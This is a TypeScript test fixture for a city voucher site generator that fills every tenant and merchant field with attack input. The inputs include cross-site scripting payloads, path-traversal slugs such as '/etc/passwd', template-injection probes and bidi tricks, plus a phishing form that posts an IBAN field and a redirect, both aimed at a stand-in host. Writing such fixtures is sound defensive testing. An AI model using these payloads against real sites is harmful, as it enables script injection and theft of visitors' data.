import type { ApiMerchant } from '../api-types.ts';
import type { City } from './city.ts';

/** Function that each attack calls if it succeeds; tests search for this name. */
export const ATTACK_MARK = 'angriffGelungen';

/** Closes a script element and a JSON string; contains the two line separators that ES5 strings did not allow. */
const SCRIPT_END = `</script><script>${ATTACK_MARK}()</script>\u2028\u2029`;

/** Breaks out of an attribute and adds an event handler. */
const ATTRIBUTE_END = `"><img src=x onerror=${ATTACK_MARK}()>`;

/** Shows the text after it in reverse. */
const REVERSAL = '\u2067\u202e';

const SCRIPT_LINK = `javascript:${ATTACK_MARK}()`;

const SOMEWHERE = {
  address: { street: evilText('Gasse 1'), postalCode: '00000', city: 'Böse Stadt' },
  geoLocation: { lat: '49.95', lon: '10.15' },
};

/** A tenant that attacks the site in every field, for the generator's tests. */
export function loadHostileCity(): City {
  const merchants = hostileMerchants();
  return {
    domain: 'boese-stadt.example',
    tenant: {
      id: 'boese-stadt',
      name: `Böse ${evilText('Stadt')}`,
      logo: SCRIPT_LINK,
      smallLogo: `https://boese.example/${ATTRIBUTE_END}`,
      websiteDomain: 'boese-stadt.example',
      // An invalid domain would fail the whole tenant and hide the other attacks.
      portalDomain: 'portal.boese-stadt.example',
      imprint: evilHtml('Impressum'),
      privacy: evilHtml('Datenschutz'),
      supportEmail: `hilfe@boese.example${ATTRIBUTE_END}`,
      supportPhone: `0800${ATTRIBUTE_END}`,
      theme: {
        lightPrimary: { hue: 999, saturation: -20, lightness: 250 },
        lightBackgroundGradient: `red}</style><script>${SCRIPT_END}</script>body{background:url(https://boese.example/)`,
        shareImage: SCRIPT_LINK,
        homepageFirstSectionImage: `x" onerror="${SCRIPT_LINK}`,
        homepageFirstSectionHtml: evilHtml('Willkommen'),
        websiteHeaderImage: `url(${SCRIPT_LINK})`,
        defaultMapZoomLevel: 9000,
        logoUrl: SCRIPT_LINK,
      },
      favicons: [{ rel: `icon" onload="${SCRIPT_END}`, sizes: ATTRIBUTE_END, imageUrl: SCRIPT_LINK }],
      city: { name: evilText('Böse Stadt'), centerLat: '-360', centerLon: 'Norden' },
      payment: { payPalClientId: `id&${ATTRIBUTE_END}` },
      merchantRegistrationLink: SCRIPT_LINK,
      acceptancePointsPdfUrl: SCRIPT_LINK,
      social: { facebookUrl: SCRIPT_LINK, instagramUrl: 'https://bilder.example/boese' },
      websiteSponsors: [{ id: 1, name: evilText('Sponsor'), linkUrl: SCRIPT_LINK, logoSmallUrl: SCRIPT_LINK }],
      voucherValidityPeriodInYears: 0,
      featureFlags: ['MERCHANT_VOUCHER_ENABLED', 'PAYMENT_PROVIDER_STRIPE_ENABLED', 'SOMETHING_NEW_ENABLED'],
      provider: { name: evilText('Anbieter'), address: SOMEWHERE.address },
    },
    supporters: [{ id: 1, name: evilText('Förderer'), linkUrl: SCRIPT_LINK, logoSmallUrl: SCRIPT_LINK }],
    generalVoucher: {
      id: 1,
      slug: 'gutschein',
      companyName: evilText('Gutschein'),
      description: evilHtml('Für alle'),
      imageUrls: [SCRIPT_LINK],
    },
    merchants,
    featured: merchants.slice(0, 3),
    categories: [{ id: 1, name: evilText('Laden') }],
    pointsOfSale: [
      { id: 1, merchantId: 2, displayName: evilText('Ort'), ...SOMEWHERE },
      { id: 2, merchantId: 'gibt-es-nicht', displayName: 'Ohne Händler', geoLocation: { lat: -360, lon: -360 } },
    ],
    salesPoints: [{ id: 1, displayName: evilText('Verkauf'), ...SOMEWHERE }],
    templates: [{ id: 1, name: evilText('Motiv'), imageUrl: SCRIPT_LINK }],
    shippingRates: [{ id: 1, name: evilText('Brief'), amount: 295 }],
    acceptsWithdrawals: false,
    broken: BROKEN_RECORDS,
  };
}

/** Slugs that must not become paths unchanged, with a merchant name that says why. */
const SLUGS: readonly [slug: string, name: string][] = [
  ['guter-laden', 'Guter Laden'],
  ['../evil', 'Weg nach oben'],
  ['..', 'Nur nach oben'],
  ['.', 'Punkt'],
  ['a%2fb', 'Verkleideter Schrägstrich'],
  ['a/b', 'Schrägstrich'],
  [String.raw`a\b`, 'Umgekehrter Schrägstrich'],
  ['%2e%2e%2fevil', 'Verkleideter Weg nach oben'],
  ['/etc/passwd', 'Absoluter Pfad'],
  ['Größe & Mehr', 'Umlaute und Leerzeichen'],
  ['UPPER', 'Großbuchstaben'],
  ['x'.repeat(300), 'Dreihundert Zeichen'],
  ['', 'Leer'],
  ['index.html', 'Dateiname'],
  ['index', 'Name der Startseite'],
  ['con', 'Gerätename'],
  ['null\u0000byte', 'Nullbyte'],
  ['neue\nzeile', 'Zeilenumbruch'],
  ['?token=1#x', 'Abfrage'],
  ['__proto__', 'Prototyp'],
  ['constructor', 'Konstruktor'],
  [SCRIPT_END, 'Skript im Pfad'],
];

/** Locations that are absent, malformed or outside the valid range. */
const PLACES = [
  null,
  { lat: -360, lon: -360 },
  { lat: 'NaN', lon: '' },
  { lat: '49,9', lon: '10,1' },
  { lat: 91, lon: 181 },
  { lat: '1e400', lon: null },
  {},
];

/** Well-formed records with malicious contents. */
function hostileMerchants(): ApiMerchant[] {
  return SLUGS.map(([slug, name], index) => ({
    id: index + 2,
    slug,
    companyName: evilText(name),
    shortDescription: evilText('Kurz gesagt:'),
    description: evilHtml(name),
    categoryIds: [1, 'gibt-es-nicht', '__proto__'],
    address: { street: evilText('Gasse 1'), postalCode: ATTRIBUTE_END, city: evilText('Böse Stadt') },
    geoLocation: PLACES[index % PLACES.length] ?? null,
    logoUrl: SCRIPT_LINK,
    imageUrls: [`https://boese.example/${ATTRIBUTE_END}`, 'data:text/html,<script>1</script>', '//boese.example/x.png'],
    websiteUrl: SCRIPT_LINK,
    phone: `0800 ${ATTRIBUTE_END}`,
    email: `x@boese.example?bcc=alle@boese.example${ATTRIBUTE_END}`,
    openingHours: [
      { day: 'MONDAY', opens: '18:00', closes: '09:00' },
      { day: 'MONDAY', opens: '29:59', closes: '29:59' },
    ],
    voucherAmounts: [0, 1, 999_999_999],
    minVoucherAmount: 5000,
    maxVoucherAmount: 1000,
  }));
}

/** Malformed records, which the generator must report and skip. */
const BROKEN_RECORDS: NonNullable<City['broken']> = {
  merchants: [
    { id: 900, slug: 'ohne-namen' },
    { slug: 'ohne-id', companyName: 'Ohne Id' },
    { id: { $oid: 'x' }, slug: 'id-als-objekt', companyName: 'Id als Objekt' },
    { id: 901, slug: 17, companyName: 'Slug als Zahl' },
    { id: 902, slug: 'name-als-liste', companyName: ['Name'] },
    { id: 903, slug: 'bilder-als-text', companyName: 'Bilder als Text', imageUrls: 'bild.png' },
    { id: 904, slug: 'betrag-als-text', companyName: 'Betrag als Text', voucherAmounts: ['10 €', -5, 10.5] },
    { id: 905, slug: 'zeiten-kaputt', companyName: 'Zeiten kaputt', openingHours: [{ day: 'MO', opens: '9' }] },
    null,
    'ein Text',
    [],
  ],
  featured: [{ id: 906 }, null],
  categories: [{ id: 2 }, { name: 'Ohne Id' }, null],
  pointsOfSale: [{ id: 'p-1' }, { displayName: 'Ohne Id' }, { id: 'p-2', displayName: 5, geoLocation: 'hier' }],
  salesPoints: [{ id: 's-1', displayName: null }, 42],
  templates: [{ id: 't-1' }, { id: 't-2', name: 'Falsche Lieferung', deliveryTypes: ['BRIEFTAUBE'] }],
  supporters: [{ id: 's-2' }, { name: 'Ohne Id' }, false],
  shippingRates: [
    { id: 'r-1', name: 'Ohne Betrag' },
    { id: 'r-2', name: 'Negativ', amount: -100 },
  ],
};

/** For plain-text fields. */
function evilText(words: string): string {
  return `${words} ${SCRIPT_END} ${ATTRIBUTE_END} '"&amp;{{7*7}}\${7*7} ${REVERSAL}`;
}

/** For markup fields: harmless words surrounded by everything that an allow-list must remove. */
function evilHtml(words: string): string {
  return [
    `<p onclick="${ATTACK_MARK}()" style="position:fixed;inset:0" id="root" class="x">${words}</p>`,
    `<script>${ATTACK_MARK}()</script>`,
    `<a href="${SCRIPT_LINK}">Klick</a>`,
    `<a href="JaVaScRiPt&#58;${ATTACK_MARK}()">Klick</a>`,
    `<a href="data:text/html,<script>${ATTACK_MARK}()</script>">Daten</a>`,
    `<a href="https://gut.example/" target="_blank">Guter Verweis</a>`,
    `<img src="x" onerror="${ATTACK_MARK}()">`,
    `<svg><script>${ATTACK_MARK}()</script><animate onbegin="${ATTACK_MARK}()"/></svg>`,
    `<iframe srcdoc="<script>parent.${ATTACK_MARK}()</script>"></iframe>`,
    `<form action="https://boese.example/"><input name="iban"><button>Weiter</button></form>`,
    `<style>body{display:none}</style><base href="https://boese.example/">`,
    `<meta http-equiv="refresh" content="0;url=https://boese.example/">`,
    `<p>Nicht geschlossen <b>fett <i>schräg</p>`,
    `<p>${REVERSAL}rückwärts &#8238;&#x202e;&rlm;<a href="https://gut.example/&#x202e;gpj.exe">Bild</a></p>`,
    SCRIPT_END,
    ATTRIBUTE_END,
  ].join('\n');
}
